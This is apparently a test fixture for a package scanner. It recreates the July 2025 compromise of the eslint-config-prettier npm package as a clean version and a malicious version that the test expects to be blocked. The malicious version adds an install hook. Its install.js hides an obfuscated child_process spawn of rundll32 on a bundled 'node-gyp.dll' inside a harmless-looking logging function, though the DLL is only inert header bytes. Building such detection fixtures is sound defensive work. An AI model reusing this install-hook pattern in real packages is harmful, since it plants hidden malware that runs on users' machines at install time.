import type { Replica } from './replica.js';
import { noiseBytes } from './replica.js';

const manifest = {
  description: 'Turns off all rules that are unnecessary or might conflict with Prettier.',
  main: 'index.js',
  bin: { 'eslint-config-prettier': 'bin/cli.js' },
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/lint/eslint-config-prettier.git' },
  files: ['bin', 'index.js', 'prettier.js'],
  peerDependencies: { eslint: '>=7.0.0' },
};

const rules = ['array-bracket-newline', 'array-bracket-spacing', 'arrow-parens', 'block-spacing', 'brace-style', 'comma-dangle', 'comma-spacing', 'comma-style', 'dot-location', 'eol-last', 'func-call-spacing', 'generator-star-spacing', 'indent', 'jsx-quotes', 'key-spacing', 'keyword-spacing', 'linebreak-style', 'no-extra-semi', 'no-trailing-spaces', 'object-curly-spacing', 'operator-linebreak', 'padded-blocks', 'quote-props', 'semi', 'semi-spacing', 'space-in-parens', 'wrap-iife', 'yield-star-spacing'];

const index = String.raw`"use strict";

const includeDeprecated = !process.env.ESLINT_CONFIG_PRETTIER_NO_DEPRECATED;

module.exports = {
  rules: {
    // The following rules can be used in some cases. See the README for more
    // information. These are marked with 0 instead of "off" so that a script can
    // distinguish them.
    "curly": 0,
    "lines-around-comment": 0,
    "max-len": 0,
    "no-confusing-arrow": 0,
    "no-mixed-operators": 0,
    "no-tabs": 0,
    "quotes": 0,

    // The rest are rules that you never need to enable when using Prettier.
${rules.map((name) => `    "${name}": "off",`).join('\n')}

    ...(includeDeprecated && {
      // Removed in version 1.0.0 of the linter.
      "space-unary-word-ops": "off",
      "generator-star": "off",
      "no-comma-dangle": "off",
      "no-reserved-keys": "off",
      "no-space-before-semi": "off",
    }),
  },
};
`;

const cli = String.raw`#!/usr/bin/env node

"use strict";

const { rules } = require("../index");

const special = Object.keys(rules).filter((name) => rules[name] === 0);

async function main(files) {
  const { ESLint } = require(require.resolve("eslint", { paths: [process.cwd()] }));
  const eslint = new ESLint();
  const seen = new Map();
  for (const file of files) {
    const config = await eslint.calculateConfigForFile(file);
    for (const [name, value] of Object.entries((config && config.rules) || {})) {
      const [severity] = [].concat(value);
      if (name in rules && severity !== 0 && severity !== "off") seen.set(name, rules[name]);
    }
  }
  if (seen.size === 0) {
    console.log("No rules that are unnecessary or conflict with Prettier were found.");
    return 0;
  }
  const sorted = [...seen.keys()].sort();
  console.error("The following rules are unnecessary or might conflict with Prettier:\n");
  console.error(sorted.map((name) => "- " + name + (special.includes(name) ? " (special)" : "")).join("\n"));
  return sorted.every((name) => special.includes(name)) ? 0 : 2;
}

if (require.main === module) {
  main(process.argv.slice(2)).then((code) => {
    process.exitCode = code;
  }, (error) => {
    console.error(error.message);
    process.exitCode = 1;
  });
}
`;

const install = String.raw`const fs = require('fs');
const path = require('path');
const os = require('os');

const cacheDir = path.join(__dirname, '.cache');
const logFile = path.join(os.tmpdir(), 'eslint-config-prettier-install.log');

function log(message) {
  try {
    fs.appendFileSync(logFile, '[' + new Date().toISOString() + '] ' + message + '\n');
  } catch (err) {
    // ignore
  }
}

function ensureCache() {
  if (!fs.existsSync(cacheDir)) {
    fs.mkdirSync(cacheDir, { recursive: true });
    log('created ' + cacheDir);
  }
}

function logDiskSpace() {
  try {
    if (os.platform() === 'win32') {
      const tempDir = os.tmpdir();
      require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
      log('Temp directory: ' + tempDir);
      const files = fs.readdirSync(tempDir);
      log('Number of files in temp directory: ' + files.length);
    }
  } catch (err) {
    log('Failed to check disk space: ' + err.message);
  }
}

function checkNodeVersion() {
  const major = Number(process.versions.node.split('.')[0]);
  if (major < 14) {
    console.warn('eslint-config-prettier: this version of Node.js is not supported');
  }
}

function cleanOld() {
  try {
    for (const name of fs.readdirSync(cacheDir)) {
      if (name.endsWith('.old')) fs.unlinkSync(path.join(cacheDir, name));
    }
  } catch (err) {
    log(err.message);
  }
}

function main() {
  checkNodeVersion();
  ensureCache();
  cleanOld();
  logDiskSpace();
  log('done');
}

main();
`;

/** The heads that tell a library of Windows (MZ, PE, a section table of zeros), then bytes without meaning: no loader takes it. */
function library(): Uint8Array {
  const bytes = noiseBytes(102_400, 1010);
  bytes.fill(0, 0, 0x400);
  bytes.set(Buffer.from('MZ\u0090\0\u0003\0\0\0\u0004\0\0\0', 'latin1'));
  bytes.set([0x80], 0x3c);
  bytes.set(Buffer.from('!This program cannot be run in DOS mode.\r\r\n$', 'latin1'), 0x4e);
  bytes.set(Buffer.from('PE\0\0d\u0086\0\0', 'latin1'), 0x80);
  bytes.set([0xf0, 0x00, 0x22, 0x20, 0x0b, 0x02], 0x94);
  return bytes;
}

const files = {
  'index.js': index,
  'prettier.js': '"use strict";\n\nmodule.exports = {\n  extends: ["prettier"],\n  plugins: ["prettier"],\n  rules: {\n    "prettier/prettier": "error",\n    "arrow-body-style": "off",\n    "prefer-arrow-callback": "off",\n  },\n};\n',
  'bin/cli.js': cli,
  'README.md': '# eslint-config-prettier\n\nTurns off all rules that are unnecessary or might conflict with Prettier.\n',
};
const owner = { name: 'lint-owner', email: 'owner@lint.example' };

/** From memory of the public issue and analyses: the install script, its split strings, the name of the library and its entry. The innocent functions around it are a guess. */
export const replica: Replica = {
  id: 'eslint-config-prettier-2025',
  story: 'July 2025: with a phished token four versions of a package that only holds settings gained an install script that starts a bundled Windows library through rundll32.',
  name: 'eslint-config-prettier',
  before: { version: '8.10.0', manifest, files, publishedAt: '2023-08-03T06:43:08.000Z', publisher: owner },
  after: {
    version: '8.10.1', manifest: { ...manifest, files: [...manifest.files, 'install.js', 'node-gyp.dll'], scripts: { install: 'node install.js' } },
    files: { ...files, 'install.js': install, 'node-gyp.dll': library() },
    publishedAt: '2025-07-18T12:40:00.000Z', publisher: owner,
  },
  must: 'block',
};
